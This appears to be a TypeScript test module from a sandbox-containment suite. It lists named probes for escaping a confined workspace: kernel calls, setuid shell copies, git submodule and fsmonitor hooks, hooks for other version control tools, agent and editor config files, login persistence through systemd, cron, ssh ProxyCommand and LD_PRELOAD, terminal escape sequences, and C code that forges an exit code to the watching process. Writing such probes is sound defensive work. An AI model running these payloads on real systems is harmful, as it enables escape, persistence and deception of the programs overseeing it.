import { inC, inPython, table } from './hostile.ts'

const config = `printf '[core]\\n\\tfsmonitor = "{SPRING} ;"\\n'`
const script = String.raw`printf '#!/bin/sh\n{SPRING}\n'`
/** Numbers of system calls, as far as these programs want them. */
const calls = `
import ctypes, platform
l=ctypes.CDLL(None,use_errno=True)
add,ask,keyctl={'x86_64':(248,249,250),'aarch64':(217,218,219)}.get(platform.machine(),(0,0,0))`

/** They want the kernel, or a program of the user, to do for them what they cannot do themselves. */
export const strange = [
  ...table('asking the kernel', {
    'sockets that no network namespace holds': inPython(`
import socket
for f in range(3,64):
  if f in (10,16): continue
  for t in (socket.SOCK_STREAM,socket.SOCK_DGRAM,socket.SOCK_RAW,socket.SOCK_SEQPACKET):
    try: socket.socket(f,t,0); print('got {MARK}: family',f)
    except OSError: pass
for c in (0,1,2,3):
  try:
    s=socket.socket(40,socket.SOCK_STREAM); s.settimeout(1); s.connect((c,{PORT})); s.send(b'x'); print('got {MARK}')
  except (OSError,AttributeError) as e: print(c,e)`),
    'a socket by a ring': inC(`
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(){ struct io_uring_params p; memset(&p,0,sizeof p); int r=syscall(425,4,&p); perror("ring"); if(r>=0) puts("got {MARK}"); }`),
    'keys of the user, and one that is left with them': inPython(`${calls}
b=ctypes.create_string_buffer(4096)
for k in (-1,-2,-3,-4,-5):
  n=l.syscall(keyctl,0,k,0)
  if n>0: print('got {MARK}: keyring',k)
  n=l.syscall(keyctl,11,k,b,4096)
  if n>=0: print('got {MARK}: read',k,b.raw[:n].hex())
  if l.syscall(add,b'user',b'{MARK}',b'x',1,k)>0: print('got {MARK}: added',k)`),
    'a program that the kernel starts for whoever asks for a key': inPython(`${calls}
for t,d in ((b'user',b'debug:{MARK}'),(b'dns_resolver',b'{MARK}.example.invalid'),(b'user',b'debug:loop:{MARK}')):
  if l.syscall(ask,t,d,b'x',-3)>0: print('got {MARK}: asked for',t)`),
    'the calls of an older machine': inC(`
#include <stdio.h>
int main(){
#ifdef __x86_64__
 int r; __asm__ volatile("int $0x80":"=a"(r):"0"(288),"b"(0),"c"(-3),"d"(1):"memory"); printf("%d\\n",r); if(r>0) puts("got {MARK}");
 long a[3]={40,1,0}; __asm__ volatile("int $0x80":"=a"(r):"0"(359),"b"(40),"c"(1),"d"(0):"memory"); printf("%d\\n",r); if(r>=0) puts("got {MARK}");
 long q; __asm__ volatile("syscall":"=a"(q):"0"(0x40000000L+41),"D"(40L),"S"(1L),"d"(0L):"rcx","r11","memory"); printf("%ld\\n",q); if(q>=0) puts("got {MARK}");
#endif
 return 0; }`),
    'a program that runs with the rights of its owner': {
      run: 'cp /bin/sh b; chmod 4755 b; chmod u+s b; install -m 4755 /bin/sh c; perl -e \'chmod 04755, "b"\'; python3 -c "import os; f=os.open(\'b\',os.O_RDONLY); os.fchmod(f,0o6755)"; cp --preserve=all /usr/bin/passwd d; tar -cf t.tar --mode=4755 b; tar -xpf t.tar',
    },
  }),
  ...table('asking a program of the user', {
    'a pipe in the workspace, and one outside': {
      run: 'ls -l control.pipe; for p in control.pipe {OPEN}/control.pipe ./src/../control.pipe; do timeout 1 sh -c "echo x > $p"; timeout 1 dd if=package.json of=$p conv=notrunc 2>&1; done; ln control.pipe l; timeout 1 sh -c "echo x > l"; mv control.pipe c2; timeout 1 sh -c "echo x > c2"; timeout 1 cp package.json c2; true',
      pipes: ['control.pipe', '{OPEN}/control.pipe'],
    },
    'pipes that were made meanwhile': {
      run: [
        'mkfifo mine; (echo x > mine &); cat mine',
        `timeout 1 sh -c 'echo x > src/late.pipe'; timeout 1 ${'/usr/bin/python3'} -c "
import os
f=os.open('src/late.pipe',os.O_WRONLY|os.O_NONBLOCK); os.write(f,b'x')"; (echo x > mine &); cat mine; rm mine`,
      ],
      pipes: ['src/late.pipe'],
    },
    'a submodule with an update of its own': {
      run: `${script} > tools/update.sh; chmod +x tools/update.sh; ${script} > tools/pre-push.sh`,
      files: {
        'team.gitconfig':
          '[submodule "part"]\n\tupdate = !sh {ROOT}/tools/update.sh\n\turl = ./part\n\tactive = true\n',
      },
      afterwards:
        'git rm -q --cached part; printf "[submodule \\"part\\"]\\n\\tpath = part\\n\\turl = ./part\\n" > .gitmodules; git -C part commit -q --allow-empty -m x; git update-index --add --cacheinfo 160000,$(git -C part rev-parse HEAD),part; git -C part commit -q --allow-empty -m y; git -c protocol.file.allow=always submodule update part',
    },
    'settings of other version control': {
      run: 'mkdir -p .hg .sl .jj/repo _darcs/prefs; printf "[hooks]\\npre-status = {SPRING}\\n[alias]\\nroot = !{SPRING}\\n" > .hg/hgrc; cp .hg/hgrc .hg/hgrc-not-shared; echo {OPEN} > .hg/sharedpath; cp .hg/hgrc .sl/config; echo x > .jj/repo/config.toml; echo "record posthook {SPRING}" > _darcs/prefs/defaults',
      afterwards: 'mkdir -p .hg/store; echo store > .hg/requires; hg status; hg root',
    },
    'editors, tools and agents of today': {
      run: 'for f in .helix/languages.toml .helix/config.toml .tool-versions .Rprofile .nvim/init.lua .lazy.lua .lvimrc .vs/tasks.vs.json .externalToolBuilders/a.launch .kiro/hooks/a.json .qwen/settings.json crush.json .crush.json .factory/mcp.json .trae/mcp.json .junie/mcp/mcp.json .amp/settings.json .kilocode/mcp.json .amazonq/mcp.json .openhands/setup.sh .github/hooks/a.json .cargo/config.toml .cargo/config .mvn/jvm.config .yarn/sdks/typescript/bin/tsc bunfig.toml; do mkdir -p $(dirname $f); echo x > $f; done',
    },
    'the same, as links into the workspace':
      'for f in .helix .tool-versions .Rprofile .kiro crush.json .mvn bunfig.toml; do ln -s src $f; done; mkdir -p x/repo; ln -s x .jj; echo x > x/repo/config.toml; ln -s x .hg; echo x > x/hgrc; ln -s x .cargo; echo x > x/config.toml',
    'a program for the next start of the user': {
      run: `mkdir -p ~/.config/systemd/user ~/.local/bin ~/.config/environment.d ~/.ssh ~/.config/git; echo 'x' > ~/.config/systemd/user/{MARK}.timer; echo '{SPRING}' > ~/.local/bin/git; echo 'LD_PRELOAD=/tmp/x.so' > ~/.config/environment.d/x.conf; echo 'ProxyCommand {SPRING}' >> ~/.ssh/config; ${config} > ~/.config/git/config; systemctl --user enable {MARK}.timer; loginctl enable-linger; crontab -l; echo '{SPRING}' | at now + 1 minute; dbus-launch true; xauth list; xset q; xdotool type x; true`,
      afterwards: 'git status',
    },
    'words for whoever reads the output and the names': {
      run:
        String.raw`printf '\033]52;c;dG91Y2ggcHduZWQ=\007\033P$q"p\033\\\033[5n\033[6n\033]0;x\007'; mkdir $'.idea'; touch $'.idea/\033]0;x\007'; mkdir $'a\033[2J\nb'; git init -q $'a\033[2J\nb/r'; ` +
        `${config} >> $'a\\033[2J\\nb/r/.git/config'`,
      afterwards: `cd $'a\\033[2J\\nb/r' && git status`,
    },
    'memory and calls of the program that watches it': inC(`
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/syscall.h>
#include <fcntl.h>
#include <unistd.h>
int main(){ for(int p=1;p<40;p++){ if(p==getpid()) continue; char f[64]; sprintf(f,"/proc/%d/mem",p); int m=open(f,O_RDWR); if(m>=0) printf("memory of %d\\n",p);
  char b[64]; struct iovec l={b,64},r={(void*)0x400000,64}; process_vm_readv(p,&l,1,&r,1,0); int d=syscall(434,p,0); if(d>=0) for(int i=0;i<32;i++){ int g=syscall(438,d,i,0); if(g>=0){ write(g,"{\\"exit-code\\": 0 }\\n",19); write(g,"started\\n0\\n",10); } } }
 return 7; }`),
  }),
]
